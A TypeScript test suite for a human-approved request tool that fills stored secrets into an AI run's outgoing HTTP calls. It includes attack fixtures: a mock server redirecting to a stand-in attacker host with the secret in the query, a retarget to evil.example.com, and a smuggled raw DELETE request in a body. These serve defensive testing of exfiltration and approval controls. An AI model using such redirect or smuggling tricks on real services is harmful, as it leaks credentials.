/** What a run, or what runs in its container, tries with the one request that a person allowed: `mcp__oauth3__request`. */
import { randomBytes } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { REQUEST_TOOL } from '../../src/claude-runs/index.ts'
import { SecretValue } from '../../src/kernel/index.ts'
import { owner } from '../support/principals.ts'
import { createRunTools } from '../support/run-tools-kit.ts'
import { createTelegramKit } from '../support/telegram-kit.ts'
import { startTlsUpstream } from '../support/tls-upstream.ts'

const NAMES = ['api.example.com', 'evil.example.com']
const ASKED = {
  url: 'https://api.example.com/mail?to=a',
  method: 'POST',
  headers: { authorization: 'Bearer {{MAIL_KEY}}', 'content-type': 'application/json' },
  body: '{"key":"{{MAIL_KEY}}"}',
}

interface Arrived {
  readonly line: string
  readonly authorization: string | undefined
  readonly body: string
}

/** A host that echoes all that it was sent, behind a redirect where the path says so. */
async function start(options: { readonly hosts?: readonly string[] } = {}) {
  const value = `demo-${randomBytes(24).toString('hex')}`
  const arrived: Arrived[] = []
  const upstream = await startTlsUpstream(NAMES, (request, response) => {
    const parts: Buffer[] = []
    request.on('data', (part: Buffer) => parts.push(part))
    request.on('end', () => {
      const body = Buffer.concat(parts).toString()
      const { authorization, host } = request.headers
      arrived.push({ line: `${request.method} ${host}${request.url}`, authorization, body })
      const location = `https://evil.example.com/?k=${value}`
      if (request.url === '/moved') response.writeHead(302, { location })
      else response.writeHead(200, { etag: `"${value}"` })
      response.end(`you sent ${authorization} and ${body} and ${Buffer.from(value).toString('base64')}`)
    })
  })
  const kit = await createTelegramKit({
    egress: {
      resolve: async () => ['127.0.0.1'],
      isPublic: () => true,
      portOf: ({ port }) => (port === 443 ? upstream.port : port),
      tls: { ca: upstream.ca },
    },
  })
  const { hosts } = options
  await kit.storage.transaction((tx) =>
    kit.vault.put(tx, 'MAIL_KEY', new SecretValue(value), { hosts, actor: 'cli:0' }),
  )
  const tools = await createRunTools(kit)
  return {
    ...tools,
    ...{ kit, value, arrived },
    rows: async () => (await kit.audit.newest(200)).toReversed(),
    async [Symbol.asyncDispose]() {
      await kit[Symbol.asyncDispose]()
      await upstream[Symbol.asyncDispose]()
    },
  }
}

type World = Awaited<ReturnType<typeof start>>

/** A run that was told that it may, once. */
async function allowed(world: World, input: Record<string, unknown> = ASKED, choice = 'once') {
  const run = world.begin()
  const verdict = run.request(REQUEST_TOOL, input)
  await world.answer(await world.nextAsked(), choice, owner())
  expect(await verdict).toEqual({ behavior: 'allow', updatedInput: input })
  const use = (given: Record<string, unknown> = input, toolUseId: string | null = 'toolu_1') =>
    run.calls.use({ toolUseId, tool: REQUEST_TOOL, input: given }, run.controller.signal)
  return { run, use }
}

const NOT_ALLOWED = { isError: true, text: expect.stringContaining('Nobody has allowed this very request') }

describe('a request that a person allowed', () => {
  test('goes out once as it was shown, with the value in its places, which comes back to nobody', async () => {
    await using world = await start({ hosts: ['api.example.com'] })
    const { kit, value } = world
    const run = world.begin()
    const verdict = run.request(REQUEST_TOOL, ASKED)
    const card = await kit.said('A run asks to use a tool')
    for (const part of ['POST', 'api.example.com', 'MAIL_KEY', 'Nothing is opened', run.runId])
      expect(card.text).toContain(part)
    await world.answer(await world.nextAsked(), 'once', owner())
    expect(await verdict).toMatchObject({ behavior: 'allow' })
    expect(world.arrived).toEqual([])
    const call = { toolUseId: 'toolu_1', tool: REQUEST_TOOL, input: ASKED }
    const answer = await run.calls.use(call, run.controller.signal)
    expect(world.arrived).toEqual([
      {
        line: 'POST api.example.com/mail?to=a',
        authorization: `Bearer ${value}`,
        body: `{"key":"${value}"}`,
      },
    ])
    expect(answer.isError).toBe(false)
    expect(answer.text).toMatch(/^HTTP 200\n[\s\S]*you sent Bearer /)
    expect(answer.text).not.toContain(value)
    expect(answer.text).not.toContain(Buffer.from(value).toString('base64').slice(0, 24))
    expect(await run.calls.use(call, run.controller.signal)).toEqual(NOT_ALLOWED)
    expect(world.arrived).toHaveLength(1)
    // Its container was let out nowhere.
    expect(run.reached()).toEqual([])
    const rows = await world.rows()
    expect(
      rows.map(({ event }) => event).filter((event) => /^(tool_call|secret\.opened|egress)/.test(event)),
    ).toEqual([
      ...['tool_call.asked', 'tool_call.decided', 'secret.opened', 'egress.request', 'tool_call.refused'],
    ])
    expect(JSON.stringify(rows)).not.toContain(value)
    const sent = rows.find(({ event }) => event === 'egress.request')
    expect(sent?.requestId).toBe(run.runId)
    expect(JSON.parse(sent?.data ?? '')).toMatchObject({
      ...{ origin: 'https://api.example.com', path: '/mail', secrets: ['MAIL_KEY'], status: 200 },
    })
  })

  test.each([
    ['another host', { ...ASKED, url: 'https://evil.example.com/mail?to=a' }],
    ['another path', { ...ASKED, url: 'https://api.example.com/other' }],
    ['another method', { ...ASKED, method: 'DELETE' }],
    ['another body', { ...ASKED, body: '{"key":"{{MAIL_KEY}}","more":1}' }],
    ['a header more', { ...ASKED, headers: { ...ASKED.headers, 'x-more': '{{MAIL_KEY}}' } }],
  ])('with %s is another: it does not go, and neither does the first any more', async (_what, other) => {
    await using world = await start()
    const { use } = await allowed(world)
    expect(await use(other)).toEqual(NOT_ALLOWED)
    expect(await use()).toEqual(NOT_ALLOWED)
    expect(world.arrived).toEqual([])
  })

  test('is that use of the tool alone: of another, of none, behind its result or its run it does not go', async () => {
    await using world = await start()
    const { use, run } = await allowed(world)
    expect(await use(ASKED, 'toolu_2')).toEqual(NOT_ALLOWED)
    expect(await use(ASKED, null)).toEqual(NOT_ALLOWED)
    run.calls.answered('toolu_1')
    expect(await use()).toEqual(NOT_ALLOWED)
    const ended = await allowed(world)
    await ended.run.end()
    expect(await ended.use()).toEqual(NOT_ALLOWED)
    const stopped = await allowed(world)
    await world.kit.lockdown.begin({ actor: 'cli:0', name: null })
    world.toolCalls.halt()
    expect(await stopped.use()).toMatchObject({ isError: true })
    expect(world.arrived).toEqual([])
  })

  test.each(['GET', 'DELETE'])(
    'that is a %s goes with its body, which is read as no request of its own',
    async (method) => {
      await using world = await start()
      const body = 'DELETE /all HTTP/1.1\r\nHost: api.example.com\r\n\r\n'
      const { use } = await allowed(world, { url: ASKED.url, method, body })
      expect(await use()).toMatchObject({ isError: false })
      expect(world.arrived).toMatchObject([{ line: `${method} api.example.com/mail?to=a`, body }])
    },
  )

  test('for the rest of the run goes once for each use, and each is asked about', async () => {
    await using world = await start()
    const { use, run } = await allowed(world, ASKED, 'run')
    await use()
    expect(await use()).toEqual(NOT_ALLOWED)
    expect(await run.request(REQUEST_TOOL, ASKED)).toMatchObject({ behavior: 'allow' })
    expect(await use(ASKED, 'toolu_2')).toMatchObject({ isError: false })
    expect(world.arrived).toHaveLength(2)
  })

  test('is not followed anywhere, and the address that it is sent on to tells no value', async () => {
    await using world = await start()
    const { use } = await allowed(world, { ...ASKED, url: 'https://api.example.com/moved' })
    const { text } = await use()
    expect(text).toMatch(/^HTTP 302\n[\s\S]*location: https:\/\/evil\.example\.com\//)
    expect(text).not.toContain(world.value)
    expect(world.arrived.map(({ line }) => line)).toEqual(['POST api.example.com/moved'])
  })
})

describe('a secret', () => {
  const bindElsewhere = ({ kit, value }: World) =>
    kit.storage.transaction((tx) =>
      kit.vault.put(tx, 'MAIL_KEY', new SecretValue(value), { hosts: ['other.example.com'], actor: 'cli:0' }),
    )

  test('that is bound elsewhere, or is none, is not even asked about', async () => {
    await using world = await start({ hosts: ['other.example.com'] })
    const run = world.begin()
    expect(await run.request(REQUEST_TOOL, ASKED)).toMatchObject({
      behavior: 'deny',
      message: 'The owner lets the secret MAIL_KEY go to other hosts than api.example.com.',
    })
    const unknown = { ...ASKED, headers: {}, body: '{{NO_KEY}}' }
    expect(await run.request(REQUEST_TOOL, unknown)).toMatchObject({ message: 'There is no secret NO_KEY.' })
    expect(await world.events()).toEqual(['tool_call.refused', 'tool_call.refused'])
  })

  test.each([[[]], [['OTHER_KEY']]])(
    'that its app was not given (%j) is not asked about, and the refusal does not tell whether there is one',
    async (secrets) => {
      await using world = await start()
      const run = world.begin({ secrets })
      const of = async (name: string) => {
        const body = `{{${name}}}`
        const verdict = await run.request(REQUEST_TOOL, { ...ASKED, headers: {}, body })
        return 'message' in verdict ? verdict.message.replace(name, 'NAME') : verdict
      }
      expect(await of('MAIL_KEY')).toBe('The owner of this app has not let its runs ask for the secret NAME.')
      expect(await of('NO_KEY')).toBe(await of('MAIL_KEY'))
      expect(await world.events()).not.toContain('tool_call.asked')
      const given = world.begin({ secrets: [...secrets, 'MAIL_KEY'] })
      const verdict = given.request(REQUEST_TOOL, ASKED)
      await world.answer(await world.nextAsked(), 'once', owner())
      expect(await verdict).toMatchObject({ behavior: 'allow' })
    },
  )

  test('that was bound elsewhere behind the yes does not go', async () => {
    await using world = await start()
    const { use } = await allowed(world)
    await bindElsewhere(world)
    const { text } = await use()
    expect(text).not.toContain('you sent Bearer demo-')
    expect(world.arrived).toEqual([])
  })

  test('that was removed behind the yes does not go, and the run is told', async () => {
    await using world = await start()
    const { use } = await allowed(world)
    await world.kit.vault.remove('MAIL_KEY', 'cli:0')
    expect(await use()).toMatchObject({ isError: true, text: expect.stringContaining('MAIL_KEY') })
    expect(world.arrived).toEqual([])
  })

  test('counts for its own risk: what takes a passkey for it takes one here', async () => {
    await using world = await start()
    const { kit } = world
    await kit.storage.transaction((tx) => kit.quorum.setRisk(tx, 'MAIL_KEY', 'high', 'cli:0'))
    const run = world.begin()
    const verdict = run.request(REQUEST_TOOL, ASKED)
    const id = await world.nextAsked()
    expect(await world.answer(id, 'once', owner())).toMatchObject({ accepted: false })
    expect((await world.viewOf(id)).state).toBe('pending')
    run.controller.abort()
    expect(await verdict).toMatchObject({ behavior: 'deny' })
    expect(world.arrived).toEqual([])
  })
})

test('a run whose token lacks the tool cannot ask, and a denial is a text for the model', async () => {
  await using world = await start()
  const without = world.begin({ tools: ['Bash'] })
  expect(await without.request(REQUEST_TOOL, ASKED)).toMatchObject({ behavior: 'deny' })
  const run = world.begin()
  const verdict = run.request(REQUEST_TOOL, ASKED)
  await world.answer(await world.nextAsked(), 'deny', owner(), 'not today')
  expect(await verdict).toMatchObject({ behavior: 'deny', message: expect.stringContaining('not today') })
  const call = { toolUseId: 'toolu_1', tool: REQUEST_TOOL, input: ASKED }
  expect(await run.calls.use(call, run.controller.signal)).toEqual(NOT_ALLOWED)
  expect(world.arrived).toEqual([])
})
